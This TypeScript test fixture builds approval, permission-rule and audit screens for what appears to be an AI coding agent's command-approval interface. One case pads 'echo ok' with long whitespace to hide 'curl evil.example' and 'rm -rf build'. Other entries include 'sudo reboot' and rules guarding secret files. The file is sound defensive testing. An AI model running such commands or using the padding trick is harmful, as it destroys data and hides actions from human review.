import type { ApprovalRequest, Grant } from "../../../src/core/events/approval.ts";
import type { UserMessage } from "../../../src/core/events/message.ts";
import type { SessionView } from "../../../src/core/events/session-view.ts";
import type { HostMessage } from "../../../src/core/protocol/host-message.ts";
import type { AuditEntry, ListedRule } from "../../../src/core/protocol/permissions.ts";
import { answer, question, run, step } from "./samples.ts";

type Shown = (parts: Partial<SessionView>) => readonly HostMessage[];

/** States of permissions: questions of every length, what decided, the rules in force, and the audit. */
export function permittedStates(asked: UserMessage, shown: Shown): Readonly<Record<string, () => readonly HostMessage[]>> {
  const waits = (request: Partial<ApprovalRequest>) =>
    shown({
      runs: [run("run1", { state: "waiting", waitReason: "approval" })],
      messages: [asked, answer("a1", "run1", "Let me see what the tests say first.")],
      steps: [step("s9", "a1", { tool: "run_command", title: "Run a command", state: "pending" })],
      approvals: [{ request: question("q1", "s9", request) }],
    });
  return {
    "approval-long": () =>
      waits({ detail: longCommand, rules: undefined, widerRules: undefined, scopes: ["once", "session"], agent: "reviewer" }),
    "approval-blanks": () =>
      waits({ detail: `echo ok${" ".repeat(240)}; curl evil.example${"\n".repeat(30)}rm -rf build`, scopes: ["once"] }),
    "approval-several": () =>
      shown({
        runs: [run("run1", { state: "waiting", waitReason: "approval" })],
        messages: [asked, answer("a1", "run1", "I run the checks.")],
        steps: several.map(({ stepId, detail }) => step(stepId, "a1", { tool: "run_command", title: `Run ${detail}`, state: "pending" })),
        approvals: several.map((request) => ({ request })),
      }),
    decided: () =>
      shown({
        runs: [run("run1", { state: "running" })],
        messages: [asked, answer("a1", "run1", "Several things at once.")],
        steps: decidedSteps,
      }),
    permissions: () => [...shown({ messages: [asked] }), { type: "screen", screen: "permissions" }, listingOf(rules, problems)],
    audit: () => [...shown({ messages: [asked] }), { type: "screen", screen: "audit" }, auditOf(audit, true)],
    "audit-empty": () => [...shown({ messages: [asked] }), { type: "screen", screen: "audit" }, auditOf([])],
  };
}

const at = "2026-01-05T09:00:00.000Z";

const longCommand = Array.from(
  { length: 60 },
  (_, index) => `printf '%s\\n' "line ${index} of a script that is longer than its box" >> notes.txt`,
).join("\n");

const decidedSteps = [
  step("s1", "a1", {
    tool: "run_command",
    title: "Run npm test",
    summary: "exit 0",
    input: { command: "npm test" },
    decision: { source: "grant", rules: ["shell:npm test"], grants: ["g1"] },
  }),
  step("s2", "a1", {
    tool: "run_command",
    title: "Run git status",
    summary: "exit 0",
    input: { command: "git status" },
    decision: { source: "settings", rules: ["shell:git status"] },
  }),
  step("s3", "a1", {
    tool: "write_file",
    title: "Write migrations/1.sql",
    state: "denied",
    input: { path: "migrations/1.sql" },
    decision: { source: "workspace", rules: ["write:migrations/**"] },
  }),
  step("s4", "a1", {
    title: "Read src/totals.ts",
    summary: "31 lines",
    decision: { source: "built-in", rule: "reading inside the workspace passes" },
  }),
];

function grant(id: string, parts: Partial<Grant>): Grant {
  return {
    id,
    sessionId: "session1",
    tool: "run_command",
    binding: "c".repeat(64),
    detail: "npm test",
    where: "/home/ana/acme/billing",
    at,
    ...parts,
  };
}

/** Two of one kind, one that must be looked at by itself, some elsewhere or for another reason, and another kind. */
const several: readonly ApprovalRequest[] = [
  question("q1", "s1"),
  question("q2", "s2", { detail: "npm run lint", agent: "coder" }),
  question("q3", "s3", { detail: "sudo reboot", scopes: ["once"], rules: [] }),
  question("q5", "s5", { detail: "npm install", where: "/home/ana/acme/shop" }),
  question("q6", "s6", { detail: "npm ci", runsOn: "docker", box: { image: "node:22", network: "open" } }),
  question("q7", "s7", { detail: "npm run e2e", reasons: ["Asked because “e2e” starts a server."] }),
  question("q4", "s4", { tool: "edit_file", title: "Change this file?", detailKind: "diff", detail: "@@ -1 +1 @@\n-a\n+b\n+c" }),
];

/** Rules of every source and effect. */
export const rules: readonly ListedRule[] = [
  { effect: "deny", source: "built-in", text: "AnyCowork's own data and code, devices, and network paths of Windows" },
  { effect: "ask", source: "built-in", text: "files that hold secrets: .env, keys, credentials" },
  { effect: "allow", source: "built-in", text: "reading inside the workspace" },
  { effect: "deny", source: "settings", text: "shell:git push --force" },
  { effect: "ask", source: "workspace", text: "write:migrations/**" },
  { effect: "allow", source: "settings", text: "@reviewer shell:git diff" },
  {
    effect: "allow",
    source: "grant",
    text: "shell:npm test",
    grant: grant("g1", {
      scope: "workspace",
      rule: "shell:npm test",
      folders: ["/home/ana/acme/billing"],
      script: { what: "scripts.test of package.json", hash: "0" },
    }),
  },
  { effect: "allow", source: "grant", text: "fetch:*.example.org", grant: grant("g2", { scope: "always", rule: "fetch:*.example.org" }) },
  {
    effect: "allow",
    source: "grant",
    text: "exactly this: for f in *.ts; do cat $f; done",
    grant: grant("g3", { scope: "session", detail: "for f in *.ts; do cat $f; done" }),
    title: "Find out why the tests fail",
  },
];

const problems = [
  "“shel:npm test” is no rule. Rules are written shell:npm test, write:src/**, read:~/notes/**, fetch:example.org, mcp:SERVER/TOOL or tool:NAME.",
];

export function listingOf(list: readonly ListedRule[], wrong: readonly string[] = []): HostMessage {
  return { type: "permissions", listing: { rules: list, problems: wrong } };
}

function entry(id: string, parts: Partial<AuditEntry>): AuditEntry {
  return {
    id,
    at,
    kind: "step",
    sessionId: "session1",
    title: "Find out why the tests fail",
    what: "Run npm test",
    tool: "run_command",
    ...parts,
  };
}

/** Entries of every kind. */
export const audit: readonly AuditEntry[] = [
  entry("e6", { kind: "mode", what: "ask → all", tool: undefined }),
  entry("e5", { kind: "revoke", what: "shell:npm test" }),
  entry("e4", {
    what: "Run rm -rf build",
    stepId: "s5",
    where: "/home/ana/acme/billing",
    allowed: false,
    outcome: "denied",
    decision: { source: "settings", rules: ["shell:rm"] },
    detail: "rm -rf build",
  }),
  entry("e3", {
    what: "Edit packages/billing/src/reports/quarterly/totals-by-month.ts",
    tool: "edit_file",
    stepId: "s4",
    agent: "reviewer",
    allowed: true,
    outcome: "ok",
    by: "chat",
    decision: { source: "answer", by: "chat", scope: "workspace" },
    effects: "edit packages/billing/src/reports/quarterly/totals-by-month.ts",
    detail: "--- a\n+++ b\n-one\n+two",
  }),
  entry("e2", { kind: "grant", what: "shell:npm test", by: "toast", allowed: true }),
  entry("e1", {
    stepId: "s1",
    allowed: true,
    outcome: "ok",
    where: "/home/ana/acme/billing",
    decision: { source: "answer", by: "toast", scope: "always" },
  }),
];

export function auditOf(entries: readonly AuditEntry[], more = false, before?: string): HostMessage {
  return { type: "audit", filter: { text: "" }, ...(before === undefined ? {} : { before }), page: { entries, more } };
}
